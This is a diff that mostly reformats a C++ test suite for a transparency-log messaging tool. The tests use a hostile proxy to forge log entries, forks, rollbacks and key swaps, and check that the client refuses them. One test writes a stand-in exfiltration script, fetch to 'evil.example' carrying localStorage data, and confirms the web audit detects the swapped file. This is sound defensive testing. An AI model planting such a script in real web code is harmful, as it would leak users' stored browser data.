@@ -7,8 +7,8 @@
 // or a witness saw before. Three witnesses and a fork shown to one client: caught.
 #include <fstream>
 #include <functional>
-#include <optional>
 #include <mutex>
+#include <optional>
 
 #include "cli/witness.h"
 #include "crypto/keyfile.h"
@@ -47,7 +47,10 @@ class HostileProxy {
   explicit HostileProxy(cli::ServerUrl upstream) : upstream_(std::move(upstream)) {
     http::Router router;
     for (const char* method : {"GET", "POST", "PUT", "PATCH", "DELETE"}) {
-      EXPECT_TRUE(router.Anonymous(method, "/{*path}", [this](const http::Request& req) { return Forward(req); }).ok());
+      EXPECT_TRUE(router
+                      .Anonymous(method, "/{*path}",
+                                 [this](const http::Request& req) { return Forward(req); })
+                      .ok());
     }
     http::ServerOptions opts;
     opts.port = 0;
@@ -82,7 +85,8 @@ class HostileProxy {
     for (const char* h : {"Cookie", "X-CSRF-Token", "Content-Type"}) {
       if (auto v = req.headers.Get(h)) headers.emplace_back(h, std::string(*v));
     }
-    auto reply = cli::HttpRequest(upstream_, req.method, target, req.body, "", headers, std::size_t{256} << 20);
+    auto reply = cli::HttpRequest(upstream_, req.method, target, req.body, "", headers,
+                                  std::size_t{256} << 20);
     if (!reply.ok()) return http::Response::Text(502, reply.error().message());
     Rewrite rewrite;
     {
@@ -116,11 +120,13 @@ class HostileServerTest : public ServerTest {
     SetUpCables("state", 22, 31);
     proxy_ = std::make_unique<HostileProxy>(url_server_);
     crypto::SeededRng file_rng(6);
-    auto file = crypto::SealKeyFile(orgs_["state"].members[5], "correct horse", crypto::KdfParams::Interactive(), file_rng);
+    auto file = crypto::SealKeyFile(orgs_["state"].members[5], "correct horse",
+                                    crypto::KdfParams::Interactive(), file_rng);
     ASSERT_TRUE(file.ok());
     member_key_ = (dir_ / "member.key").string();
     std::ofstream(member_key_, std::ios::binary)
-        .write(reinterpret_cast<const char*>(file->data()), static_cast<std::streamsize>(file->size()));
+        .write(reinterpret_cast<const char*>(file->data()),
+               static_cast<std::streamsize>(file->size()));
     std::ofstream(dir_ / "body.txt") << "The instructions contradict our obligations.\n";
   }
   void TearDown() override {
@@ -132,9 +138,10 @@ class HostileServerTest : public ServerTest {
   // state directory (pins, spent slots).
   std::pair<int, std::string> WriteCable(const std::string& extra = "", bool through_proxy = true) {
     const std::string server = through_proxy ? proxy_->Url() : url_server_.ToString();
-    return RunShell("CANDOR_PASSPHRASE='correct horse' " + std::string(CANDOR_BINARY) + " cable write --server " +
-                    server + " --org state --key " + member_key_ + " --state-dir " + (dir_ / "member").string() +
-                    " --subject S --body-file " + (dir_ / "body.txt").string() + " " + extra);
+    return RunShell("CANDOR_PASSPHRASE='correct horse' " + std::string(CANDOR_BINARY) +
+                    " cable write --server " + server + " --org state --key " + member_key_ +
+                    " --state-dir " + (dir_ / "member").string() + " --subject S --body-file " +
+                    (dir_ / "body.txt").string() + " " + extra);
   }
 
   // Expects the write refused with `needle` in its message and nothing submitted.
@@ -146,7 +153,9 @@ class HostileServerTest : public ServerTest {
     EXPECT_EQ(proxy_->Count("POST", "/api/v1/cables"), before) << "a cable was sent";
   }
 
-  static bool IsOrgState(const http::Request& req) { return req.method == "GET" && req.path == "/api/v1/orgs/state/state"; }
+  static bool IsOrgState(const http::Request& req) {
+    return req.method == "GET" && req.path == "/api/v1/orgs/state/state";
+  }
 
   // The whole real log, as the operator has it.
   std::vector<crypto::Bytes> RealLog() {
@@ -171,12 +180,15 @@ class HostileServerTest : public ServerTest {
     for (std::size_t i = 0; i < keep; ++i) fork->log.push_back(real[i]);
     for (const auto& e : extra) fork->log.push_back(domain::EncodeLogEntry(e));
     domain::LogState state;
-    for (std::size_t i = 0; i < fork->log.size(); ++i) EXPECT_TRUE(state.Replay(i, *domain::DecodeLogEntry(fork->log[i])).ok());
+    for (std::size_t i = 0; i < fork->log.size(); ++i)
+      EXPECT_TRUE(state.Replay(i, *domain::DecodeLogEntry(fork->log[i])).ok());
     fork->state_leaves = state.Leaves();
     fork->log.push_back(domain::EncodeLogEntry(state.Commit(fork->log.size())));
     for (const auto& e : fork->log) fork->tree.Append(e);
     const crypto::SignKeyPair key = crypto::SignKeyPairFromSecret(log_key_secret_.Clone());
-    fork->sth = tlog::SignTreeHead(tlog::TreeHead{fork->tree.size(), fork->tree.Root(), static_cast<std::uint64_t>(clock_.NowMs())}, key.secret_key);
+    fork->sth = tlog::SignTreeHead(tlog::TreeHead{fork->tree.size(), fork->tree.Root(),
+                                                  static_cast<std::uint64_t>(clock_.NowMs())},
+                                   key.secret_key);
     return fork;
   }
 
@@ -198,7 +210,9 @@ class HostileServerTest : public ServerTest {
           forged["consistency"] = Json::array();
           checkpoints.push_back(forged);
         }
-        reply.body = Json{{"latest", domain::SignedTreeHeadToJson(fork->sth)}, {"checkpoints", checkpoints}}.dump();
+        reply.body =
+            Json{{"latest", domain::SignedTreeHeadToJson(fork->sth)}, {"checkpoints", checkpoints}}
+                .dump();
       } else if (req.path == "/api/v1/log/sth") {
         reply.body = domain::SignedTreeHeadToJson(fork->sth).dump();
       } else if (IsOrgState(req)) {
@@ -211,8 +225,10 @@ class HostileServerTest : public ServerTest {
           const bool belongs = std::visit(
               [](const auto& e) {
                 using T = std::decay_t<decltype(e)>;
-                if constexpr (std::is_same_v<T, domain::RosterAddEvent> || std::is_same_v<T, domain::RosterRemoveEvent> ||
-                              std::is_same_v<T, domain::ReviewerEvent> || std::is_same_v<T, domain::RosterEpochEvent> ||
+                if constexpr (std::is_same_v<T, domain::RosterAddEvent> ||
+                              std::is_same_v<T, domain::RosterRemoveEvent> ||
+                              std::is_same_v<T, domain::ReviewerEvent> ||
+                              std::is_same_v<T, domain::RosterEpochEvent> ||
                               std::is_same_v<T, domain::ReviewerRemovedEvent>) {
                   return e.slug == "state";
                 } else {
@@ -221,7 +237,9 @@ class HostileServerTest : public ServerTest {
               },
               *ev);
           const bool last = i + 1 == fork->log.size();  // the fork's own log state
-          if (belongs || last) p.entries.push_back({i, fork->log[i], *fork->tree.InclusionProof(i, fork->tree.size())});
+          if (belongs || last)
+            p.entries.push_back(
+                {i, fork->log[i], *fork->tree.InclusionProof(i, fork->tree.size())});
         }
         p.state = *domain::ProveOrganizationLeaf(fork->state_leaves, "state");
         Json j = domain::OrgStateProofToJson(p);
@@ -236,9 +254,12 @@ class HostileServerTest : public ServerTest {
         Json hashes = Json::array();
         for (const auto& h : *proof) hashes.push_back(crypto::ToHex(h));
         reply.status = 200;
-        reply.body = Json{{"type", "consistency"}, {"old_size", old_size}, {"new_size", fork->tree.size()},
-                          {"proof", hashes}}
-                         .dump();
+        reply.body = Json{
+            {"type", "consistency"},
+            {"old_size", old_size},
+            {"new_size", fork->tree.size()},
+            {"proof",
+             hashes}}.dump();
       }
     });
   }
@@ -265,7 +286,10 @@ TEST_P(HostileServerTest, AnHonestServerThroughTheProxyIsBelieved) {
   // (the stored checkpoint is then no longer among the four listed, so the client asks).
   for (int batches : {1, 5}) {
     for (int i = 0; i < batches; ++i) {
-      ASSERT_EQ(Enroll("state", Invite(Login("state", "officer"), "state"), crypto::GenerateMemberKeys(rng_)).status, 201);
+      ASSERT_EQ(Enroll("state", Invite(Login("state", "officer"), "state"),
+                       crypto::GenerateMemberKeys(rng_))
+                    .status,
+                201);
       ASSERT_TRUE(service_->PublishBatch().ok());
     }
     auto again = WriteCable();
@@ -281,7 +305,8 @@ TEST_P(HostileServerTest, AnHonestServerThroughTheProxyIsBelieved) {
   }
   proxy_->Set(nullptr);
   EXPECT_NE(r.second.find("Pinned the log key"), std::string::npos) << r.second;
-  EXPECT_NE(r.second.find("reviewer2"), std::string::npos) << r.second;  // who can read it, as logged
+  EXPECT_NE(r.second.find("reviewer2"), std::string::npos)
+      << r.second;  // who can read it, as logged
   EXPECT_EQ(proxy_->Count("POST", "/api/v1/cables"), 3u);
 }
 
@@ -292,8 +317,9 @@ TEST_P(HostileServerTest, ASybilPaddedOrPerFetchRosterIsRefused) {
     if (!IsOrgState(req)) return;
     Json j = Json::parse(reply.body);
     Json& last = j["entries"][j["entries"].size() - 1];
-    last["entry"] = crypto::ToHex(domain::EncodeLogEntry(domain::RosterAddEvent{
-        "state", 23, crypto::GenerateMemberKeys(sybil).ring.public_key, crypto::GenerateBoxKeyPair(sybil).public_key}));
+    last["entry"] = crypto::ToHex(domain::EncodeLogEntry(
+        domain::RosterAddEvent{"state", 23, crypto::GenerateMemberKeys(sybil).ring.public_key,
+                               crypto::GenerateBoxKeyPair(sybil).public_key}));
     reply.body = j.dump();
   });
   ExpectRefused("inclusion proof");
@@ -305,10 +331,12 @@ TEST_P(HostileServerTest, ASybilPaddedOrPerFetchRosterIsRefused) {
       Json j = Json::parse(reply.body);
       std::vector<std::size_t> of_kind;
       for (std::size_t i = 0; i < j["entries"].size(); ++i) {
-        auto ev = domain::DecodeLogEntry(*crypto::FromHex(j["entries"][i]["entry"].get<std::string>()));
+        auto ev =
+            domain::DecodeLogEntry(*crypto::FromHex(j["entries"][i]["entry"].get<std::string>()));
         if (ev.ok() && domain::LogEventKind(*ev) == kind) of_kind.push_back(i);
       }
-      j["entries"].erase(of_kind[static_cast<std::size_t>(fetch++) % (of_kind.size() - 1)]);  // never the newest
+      j["entries"].erase(
+          of_kind[static_cast<std::size_t>(fetch++) % (of_kind.size() - 1)]);  // never the newest
       j["page"]["entries"] = j["entries"].size();
       reply.body = j.dump();
     });
@@ -333,11 +361,14 @@ TEST_P(HostileServerTest, AHiddenChangeALeftOutBatchOrAnOldHeadIsCaught) {
     if (a["username"] == "reviewer2") reviewer2 = a["id"].get<std::int64_t>();
   }
   ASSERT_NE(reviewer2, 0) << accounts.dump();
-  ASSERT_EQ(Call("PATCH", "/api/v1/orgs/state/accounts/" + std::to_string(reviewer2), Json{{"disabled", true}}.dump(),
-                 admin.Headers())
+  ASSERT_EQ(Call("PATCH", "/api/v1/orgs/state/accounts/" + std::to_string(reviewer2),
+                 Json{{"disabled", true}}.dump(), admin.Headers())
                 .status,
             204);
-  ASSERT_EQ(Enroll("state", Invite(Login("state", "officer"), "state"), crypto::GenerateMemberKeys(rng_)).status, 201);
+  ASSERT_EQ(
+      Enroll("state", Invite(Login("state", "officer"), "state"), crypto::GenerateMemberKeys(rng_))
+          .status,
+      201);
   ASSERT_TRUE(service_->PublishBatch().ok());
 
   // Hiding the newest entry of a kind (the removal: cables would still be sealed to reviewer2;
@@ -348,7 +379,8 @@ TEST_P(HostileServerTest, AHiddenChangeALeftOutBatchOrAnOldHeadIsCaught) {
       Json j = Json::parse(reply.body);
       std::optional<std::size_t> newest;
       for (std::size_t i = 0; i < j["entries"].size(); ++i) {
-        auto ev = domain::DecodeLogEntry(*crypto::FromHex(j["entries"][i]["entry"].get<std::string>()));
+        auto ev =
+            domain::DecodeLogEntry(*crypto::FromHex(j["entries"][i]["entry"].get<std::string>()));
         if (ev.ok() && domain::LogEventKind(*ev) == kind) newest = i;
       }
       j["entries"].erase(*newest);
@@ -376,20 +408,24 @@ TEST_P(HostileServerTest, AHiddenChangeALeftOutBatchOrAnOldHeadIsCaught) {
   EXPECT_EQ(honest.second.find("reviewer2"), std::string::npos) << honest.second;
 
   // A letter signed in two batches.
-  const std::string id = JsonOf(Call("POST", "/api/v1/letters",
-                                     Json{{"title", "Counted"}, {"body", "Every batch."}, {"organizations", {"state"}}}.dump(),
-                                     Login("state", "reviewer").Headers()))
-                             .value("id", "");
+  const std::string id =
+      JsonOf(Call("POST", "/api/v1/letters",
+                  Json{{"title", "Counted"}, {"body", "Every batch."}, {"organizations", {"state"}}}
+                      .dump(),
+                  Login("state", "reviewer").Headers()))
+          .value("id", "");
   ASSERT_EQ(id.size(), 64u);
   const domain::OrgState state = State("state");
   const auto ring = *crypto::Ring::Create(*state.roster.members(state.roster.version()));
   crypto::SeededRng sig_rng(91);
   const auto sign = [&](std::size_t member) {
     const auto& k = orgs_["state"].members[member];
-    auto sig = domain::SignLetter(*crypto::FixedFromHex<domain::LetterId>(id), domain::SignatureAction::kSign, ring,
+    auto sig = domain::SignLetter(*crypto::FixedFromHex<domain::LetterId>(id),
+                                  domain::SignatureAction::kSign, ring,
                                   *ring.IndexOf(k.ring.public_key), k.ring.secret, sig_rng);
-    auto r = Call("POST", "/api/v1/letters/" + id + "/signatures",
-                  Json{{"organization", "state"}, {"signature", domain::CoSignatureToJson(*sig)}}.dump());
+    auto r = Call(
+        "POST", "/api/v1/letters/" + id + "/signatures",
+        Json{{"organization", "state"}, {"signature", domain::CoSignatureToJson(*sig)}}.dump());
     EXPECT_EQ(r.status, 202) << r.body;
   };
   sign(0);
@@ -398,7 +434,8 @@ TEST_P(HostileServerTest, AHiddenChangeALeftOutBatchOrAnOldHeadIsCaught) {
   sign(2);
   ASSERT_TRUE(service_->PublishBatch().ok());
   const auto verify = [&](const std::string& flags) {
-    return RunShell(std::string(CANDOR_BINARY) + " verify " + id + " --server " + proxy_->Url() + " " + flags);
+    return RunShell(std::string(CANDOR_BINARY) + " verify " + id + " --server " + proxy_->Url() +
+                    " " + flags);
   };
   auto counted = verify("--max-age 0");
   ASSERT_EQ(counted.first, 0) << counted.second;
@@ -419,22 +456,24 @@ TEST_P(HostileServerTest, AHiddenChangeALeftOutBatchOrAnOldHeadIsCaught) {
     std::optional<std::uint64_t> last_batch_at;
     for (const auto& e : j["entries"]) {
       auto ev = domain::DecodeLogEntry(*crypto::FromHex(e["entry"].get<std::string>()));
-      if (const auto* b = std::get_if<domain::SignatureBatchEvent>(&*ev); b != nullptr && b->batch == 2) {
+      if (const auto* b = std::get_if<domain::SignatureBatchEvent>(&*ev);
+          b != nullptr && b->batch == 2) {
         last_batch_at = e["index"].get<std::uint64_t>() - b->count;
       }
     }
     for (const auto& e : j["entries"]) {
       const std::uint64_t index = e["index"];
       auto ev = domain::DecodeLogEntry(*crypto::FromHex(e["entry"].get<std::string>()));
-      const bool batch_or_signature =
-          std::holds_alternative<domain::SignatureBatchEvent>(*ev) || std::holds_alternative<domain::CoSignatureEvent>(*ev);
+      const bool batch_or_signature = std::holds_alternative<domain::SignatureBatchEvent>(*ev) ||
+                                      std::holds_alternative<domain::CoSignatureEvent>(*ev);
       if (!(batch_or_signature && last_batch_at && index >= *last_batch_at)) kept.push_back(e);
     }
     j["entries"] = kept;
   });
   auto cut = verify("--max-age 0");
   EXPECT_EQ(cut.first, 1) << cut.second;
-  EXPECT_NE(cut.second.find("the bundle lacks batches 2 to 2 of the letter"), std::string::npos) << cut.second;
+  EXPECT_NE(cut.second.find("the bundle lacks batches 2 to 2 of the letter"), std::string::npos)
+      << cut.second;
   // The log state left out: not proven complete, refused unless the verifier allows it.
   rewrite_bundle([](Json& j) {
     j["entries"].erase(j["entries"].size() - 1);
@@ -442,7 +481,8 @@ TEST_P(HostileServerTest, AHiddenChangeALeftOutBatchOrAnOldHeadIsCaught) {
   });
   auto unproven = verify("--max-age 0");
   EXPECT_EQ(unproven.first, 1) << unproven.second;
-  EXPECT_NE(unproven.second.find("does not prove that it is complete"), std::string::npos) << unproven.second;
+  EXPECT_NE(unproven.second.find("does not prove that it is complete"), std::string::npos)
+      << unproven.second;
   // The bundle at an older checkpoint (genuine, complete as of then, one batch fewer): not the
   // head this client trusts, so refused.
   std::uint64_t older = 0;
@@ -456,20 +496,23 @@ TEST_P(HostileServerTest, AHiddenChangeALeftOutBatchOrAnOldHeadIsCaught) {
     if (req.path != "/api/v1/letters/" + id + "/bundle") return;
     app::Service::BundlePage page;
     page.tree_size = older;
-    auto old_bundle = service_->LetterBundle(*crypto::FixedFromHex<domain::LetterId>(id), true, page);
+    auto old_bundle =
+        service_->LetterBundle(*crypto::FixedFromHex<domain::LetterId>(id), true, page);
     ASSERT_TRUE(old_bundle.ok()) << old_bundle.error().message();
     reply.status = 200;
     reply.body = old_bundle->dump();
   });
   auto at_older = verify("--max-age 0");
   EXPECT_EQ(at_older.first, 1) << at_older.second;
-  EXPECT_NE(at_older.second.find("at another tree head than the one this client checked"), std::string::npos)
+  EXPECT_NE(at_older.second.find("at another tree head than the one this client checked"),
+            std::string::npos)
       << at_older.second;
   // The test server's clock stands months before today's: its newest head is refused as old.
   proxy_->Set(nullptr);
   auto old = verify("");
   EXPECT_EQ(old.first, 1) << old.second;
-  EXPECT_NE(old.second.find("hours old, older than the 72 hours allowed"), std::string::npos) << old.second;
+  EXPECT_NE(old.second.find("hours old, older than the 72 hours allowed"), std::string::npos)
+      << old.second;
 }
 
 TEST_P(HostileServerTest, AnExtraReviewerKeyIsRefusedOrShownToTheAuthor) {
@@ -481,7 +524,8 @@ TEST_P(HostileServerTest, AnExtraReviewerKeyIsRefusedOrShownToTheAuthor) {
     Json j = Json::parse(reply.body);
     Json forged = j["entries"][j["entries"].size() - 1];
     forged["index"] = forged["index"].get<std::uint64_t>() + 1;
-    forged["entry"] = crypto::ToHex(domain::EncodeLogEntry(domain::ReviewerEvent{"state", 3, 99, "it.support", operator_key.public_key}));
+    forged["entry"] = crypto::ToHex(domain::EncodeLogEntry(
+        domain::ReviewerEvent{"state", 3, 99, "it.support", operator_key.public_key}));
     j["entries"].push_back(forged);
     j["page"]["entries"] = j["entries"].size();
     reply.body = j.dump();
@@ -495,7 +539,8 @@ TEST_P(HostileServerTest, AnExtraReviewerKeyIsRefusedOrShownToTheAuthor) {
   auto r = WriteCable();
   ASSERT_EQ(r.first, 0) << r.second;
   EXPECT_NE(r.second.find("it.support"), std::string::npos) << r.second;
-  EXPECT_NE(r.second.find(domain::KeyFingerprint(operator_key.public_key)), std::string::npos) << r.second;
+  EXPECT_NE(r.second.find(domain::KeyFingerprint(operator_key.public_key)), std::string::npos)
+      << r.second;
 }
 
 TEST_P(HostileServerTest, AForkAnOldHeadOrAnotherKeyIsRefusedAfterTheFirstLook) {
@@ -504,9 +549,13 @@ TEST_P(HostileServerTest, AForkAnOldHeadOrAnotherKeyIsRefusedAfterTheFirstLook) 
   ASSERT_TRUE(service_->PublishBatch().ok());  // the real log grows
   // A fork from before what the client saw, with the operator's own reviewer in it.
   crypto::SeededRng operator_rng(79);
-  auto fork = MakeFork(seen - 2, {domain::ReviewerEvent{"state", 3, 97, "it.support", crypto::GenerateBoxKeyPair(operator_rng).public_key},
-                                  domain::ReviewerEvent{"state", 4, 98, "it.backup", crypto::GenerateBoxKeyPair(operator_rng).public_key},
-                                  domain::ReviewerEvent{"state", 5, 99, "it.audit", crypto::GenerateBoxKeyPair(operator_rng).public_key}});
+  auto fork = MakeFork(
+      seen - 2, {domain::ReviewerEvent{"state", 3, 97, "it.support",
+                                       crypto::GenerateBoxKeyPair(operator_rng).public_key},
+                 domain::ReviewerEvent{"state", 4, 98, "it.backup",
+                                       crypto::GenerateBoxKeyPair(operator_rng).public_key},
+                 domain::ReviewerEvent{"state", 5, 99, "it.audit",
+                                       crypto::GenerateBoxKeyPair(operator_rng).public_key}});
   ServeFork(fork);
   ExpectRefused("forked log");
   // An old head: the log as it was before the client's last look.
@@ -516,7 +565,9 @@ TEST_P(HostileServerTest, AForkAnOldHeadOrAnotherKeyIsRefusedAfterTheFirstLook) 
   proxy_->Set([&](const http::Request& req, cli::HttpReply& reply) {
     if (req.path == "/api/v1/log/sth") reply.body = domain::SignedTreeHeadToJson(*old).dump();
     if (req.path == "/api/v1/log/checkpoints") {
-      reply.body = Json{{"latest", domain::SignedTreeHeadToJson(*old)}, {"checkpoints", Json::array()}}.dump();
+      reply.body =
+          Json{{"latest", domain::SignedTreeHeadToJson(*old)}, {"checkpoints", Json::array()}}
+              .dump();
     }
   });
   ExpectRefused("rollback");
@@ -524,16 +575,19 @@ TEST_P(HostileServerTest, AForkAnOldHeadOrAnotherKeyIsRefusedAfterTheFirstLook) 
   crypto::SeededRng other(80);
   const crypto::SignKeyPair other_key = crypto::GenerateSignKeyPair(other);
   proxy_->Set([&](const http::Request& req, cli::HttpReply& reply) {
-    if (req.path == "/api/v1/log/key") reply.body = Json{{"public_key", crypto::ToHex(other_key.public_key)}}.dump();
+    if (req.path == "/api/v1/log/key")
+      reply.body = Json{{"public_key", crypto::ToHex(other_key.public_key)}}.dump();
     if (req.path == "/api/v1/log/sth") {
       Json j = Json::parse(reply.body);
       auto sth = *domain::SignedTreeHeadFromJson(j);
-      reply.body = domain::SignedTreeHeadToJson(tlog::SignTreeHead(sth.head, other_key.secret_key)).dump();
+      reply.body =
+          domain::SignedTreeHeadToJson(tlog::SignTreeHead(sth.head, other_key.secret_key)).dump();
     }
     if (req.path == "/api/v1/log/checkpoints") {
       Json j = Json::parse(reply.body);
       auto sth = *domain::SignedTreeHeadFromJson(j["latest"]);
-      j["latest"] = domain::SignedTreeHeadToJson(tlog::SignTreeHead(sth.head, other_key.secret_key));
+      j["latest"] =
+          domain::SignedTreeHeadToJson(tlog::SignTreeHead(sth.head, other_key.secret_key));
       reply.body = j.dump();
     }
   });
@@ -587,28 +641,35 @@ TEST_P(HostileServerTest, ThreeWitnessesCatchAForkShownToOneClient) {
   // The operator shows one client — a fresh one, with no pin to betray the fork — a log of the
   // same size with its own reviewer in it, the witnesses' cosignatures pasted on.
   crypto::SeededRng operator_rng(82);
-  auto fork = MakeFork(RealLog().size() - 1,
-                       {domain::ReviewerEvent{"state", 3, 99, "it.support", crypto::GenerateBoxKeyPair(operator_rng).public_key}});
+  auto fork =
+      MakeFork(RealLog().size() - 1,
+               {domain::ReviewerEvent{"state", 3, 99, "it.support",
+                                      crypto::GenerateBoxKeyPair(operator_rng).public_key}});
   ServeFork(fork, /*as_checkpoint=*/true);
   const std::string fresh = " --state-dir " + (dir_ / "fresh").string();
   const std::size_t sent = proxy_->Count("POST", "/api/v1/cables");
-  auto forked = RunShell("CANDOR_PASSPHRASE='correct horse' " + std::string(CANDOR_BINARY) + " cable write --server " +
-                         proxy_->Url() + " --org state --key " + member_key_ + fresh + flags +
-                         " --witness-threshold 2 --subject S --body-file " + (dir_ / "body.txt").string());
+  auto forked = RunShell(
+      "CANDOR_PASSPHRASE='correct horse' " + std::string(CANDOR_BINARY) + " cable write --server " +
+      proxy_->Url() + " --org state --key " + member_key_ + fresh + flags +
+      " --witness-threshold 2 --subject S --body-file " + (dir_ / "body.txt").string());
   EXPECT_NE(forked.first, 0) << forked.second;
-  EXPECT_NE(forked.second.find("cosigned by 2 of your 3 witnesses (the best has 0)"), std::string::npos) << forked.second;
+  EXPECT_NE(forked.second.find("cosigned by 2 of your 3 witnesses (the best has 0)"),
+            std::string::npos)
+      << forked.second;
   EXPECT_EQ(proxy_->Count("POST", "/api/v1/cables"), sent) << "a cable was sent";
   // Without witnesses the same fresh client would have believed it (first use): this is what
   // witnesses are for.
-  auto believed = RunShell("CANDOR_PASSPHRASE='correct horse' " + std::string(CANDOR_BINARY) + " ring fetch --server " +
-                           proxy_->Url() + " --org state -o " + (dir_ / "ring.json").string() + " --state-dir " +
-                           (dir_ / "naive").string());
+  auto believed =
+      RunShell("CANDOR_PASSPHRASE='correct horse' " + std::string(CANDOR_BINARY) +
+               " ring fetch --server " + proxy_->Url() + " --org state -o " +
+               (dir_ / "ring.json").string() + " --state-dir " + (dir_ / "naive").string());
   EXPECT_EQ(believed.first, 0) << believed.second;
 
   // Nor will a witness cosign the fork: it cosigned the real head of that size.
   auto witness_sees_fork = witness_round(0, *cli::ServerUrl::Parse(proxy_->Url()));
   ASSERT_FALSE(witness_sees_fork.ok());
-  EXPECT_NE(witness_sees_fork.error().message().find("a fork"), std::string::npos) << witness_sees_fork.error().message();
+  EXPECT_NE(witness_sees_fork.error().message().find("a fork"), std::string::npos)
+      << witness_sees_fork.error().message();
 }
 
 // Issue 11 item 9: the web front end is logged, and `candor audit --web` checks that what a
@@ -623,8 +684,9 @@ TEST_P(HostileServerTest, ServedWebFilesThatAreNotALoggedReleaseAreCaught) {
   Stop();
   web_dir_ = web.string();
   Start();
-  const std::string audit = std::string(CANDOR_BINARY) + " audit --server " + url_server_.ToString() + " --web " +
-                            url_server_.ToString() + " --state-dir " + (dir_ / "auditor").string();
+  const std::string audit = std::string(CANDOR_BINARY) + " audit --server " +
+                            url_server_.ToString() + " --web " + url_server_.ToString() +
+                            " --state-dir " + (dir_ / "auditor").string();
   auto honest = RunShell(audit);
   ASSERT_EQ(honest.first, 0) << honest.second;
   EXPECT_NE(honest.second.find("the 3 files"), std::string::npos) << honest.second;
@@ -632,26 +694,31 @@ TEST_P(HostileServerTest, ServedWebFilesThatAreNotALoggedReleaseAreCaught) {
   auto release = service_->LatestWebRelease();
   ASSERT_TRUE(release.ok());
   EXPECT_NE(release->manifest.find("  /assets/app-1.js\n"), std::string::npos);
-  EXPECT_NE(honest.second.find(crypto::ToHex(domain::WebReleaseId(release->manifest))), std::string::npos);
+  EXPECT_NE(honest.second.find(crypto::ToHex(domain::WebReleaseId(release->manifest))),
+            std::string::npos);
 
   // The operator swaps the script (the server reads files at each request).
-  std::ofstream(web / "assets" / "app-1.js") << "fetch('https://evil.example/?k=' + localStorage.key);";
+  std::ofstream(web / "assets" / "app-1.js")
+      << "fetch('https://evil.example/?k=' + localStorage.key);";
   auto swapped = RunShell(audit);
   EXPECT_EQ(swapped.first, 1) << swapped.second;
-  EXPECT_NE(swapped.second.find("/assets/app-1.js is not the file of the logged web release"), std::string::npos)
+  EXPECT_NE(swapped.second.find("/assets/app-1.js is not the file of the logged web release"),
+            std::string::npos)
       << swapped.second;
   // Or serves a page that loads a script the release does not hold.
   std::ofstream(web / "assets" / "app-1.js") << "console.log('honest');";
   std::ofstream(web / "index.html") << "<!doctype html><script src=\"/assets/extra.js\"></script>";
   auto extra = RunShell(audit);
   EXPECT_EQ(extra.first, 1) << extra.second;
-  EXPECT_NE(extra.second.find("is not the file of the logged web release"), std::string::npos) << extra.second;
+  EXPECT_NE(extra.second.find("is not the file of the logged web release"), std::string::npos)
+      << extra.second;
   // A restart with new files logs a new release, which then passes.
   Stop();
   Start();
   auto relogged = RunShell(audit);
   EXPECT_EQ(relogged.first, 1) << relogged.second;  // index.html names a file that is not there
-  EXPECT_NE(relogged.second.find("/assets/extra.js, which the logged release does not hold"), std::string::npos)
+  EXPECT_NE(relogged.second.find("/assets/extra.js, which the logged release does not hold"),
+            std::string::npos)
       << relogged.second;
 }
 
